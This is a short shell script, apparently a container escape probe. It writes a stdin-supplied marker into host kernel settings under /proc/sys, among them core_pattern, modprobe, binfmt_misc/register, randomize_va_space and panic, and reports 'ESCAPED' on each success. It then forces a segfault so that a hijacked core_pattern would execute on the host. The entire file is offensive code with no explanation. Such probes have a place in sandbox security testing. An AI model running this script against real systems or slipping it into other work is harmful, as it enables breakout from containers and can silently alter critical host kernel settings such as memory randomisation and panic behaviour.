read -r _ marker
for path in kernel/core_pattern kernel/modprobe kernel/domainname kernel/hostname kernel/panic kernel/sysrq kernel/randomize_va_space \
  kernel/ns_last_pid vm/overcommit_memory vm/panic_on_oom vm/drop_caches fs/binfmt_misc/register net/ipv4/ip_forward kernel/usermodehelper/bset; do
  { echo "$marker" > "/proc/sys/$path" && echo "ESCAPED: wrote $path"; } 2>/dev/null
done
# If a core pattern had been set, this crash would start it on the host.
ulimit -c unlimited 2>/dev/null
bash -c 'kill -SEGV $$' 2>/dev/null
exit 0
